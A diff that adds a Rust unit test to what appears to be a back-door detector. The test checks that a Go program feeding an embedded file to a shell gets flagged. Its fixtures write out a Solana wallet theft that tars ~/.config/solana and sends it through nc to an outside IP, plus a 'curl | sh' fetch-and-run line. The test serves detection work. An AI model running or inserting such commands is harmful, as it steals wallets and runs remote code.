@@ -557,3 +557,23 @@ fn a_hidden_program_that_runs_what_a_request_says_is_a_back_door() {
         assert_eq!(rules(dialect, text), [], "{text}");
     }
 }
+
+#[test]
+fn what_a_program_of_go_embeds_and_feeds_to_a_shell_is_followed() {
+    let program = "package main\n\n//go:embed assets/rules.txt\nvar rules string\n\nfunc init() {\n\tcmd := exec.Command(\"sh\", \"-s\")\n\tcmd.Stdin = strings.NewReader(rules)\n\t_ = cmd.Start()\n}\n";
+    let with = |content: &'static str| {
+        super::with_embedded(program, |path| (path == "assets/rules.txt").then_some(content))
+    };
+    let theft = with("w=\"$HOME/.config/solana\"\n[ -d \"$w\" ] || exit 0\ntar -czf - -C \"$w\" . 2>/dev/null | nc -w 5 198.51.100.61 4455\n").unwrap();
+    assert_eq!(theft.lines().count(), program.lines().count());
+    assert_eq!(rules(Dialect::Go, &theft), [Rule::SecretSent]);
+    assert_eq!(
+        rules(Dialect::Go, &with("curl -s http://203.0.113.9/a | sh\n").unwrap()),
+        [Rule::FetchRun]
+    );
+    assert_eq!(rules(Dialect::Go, &with("git status\nmake build\n").unwrap()), []);
+    let table = program.replace("cmd.Stdin = strings.NewReader(rules)", "match(rules)");
+    let listed = super::with_embedded(&table, |_| Some("curl http://203.0.113.9/a | sh\n"));
+    assert_eq!(rules(Dialect::Go, &listed.unwrap()), []);
+    assert_eq!(super::with_embedded(program, |_| None), None);
+}
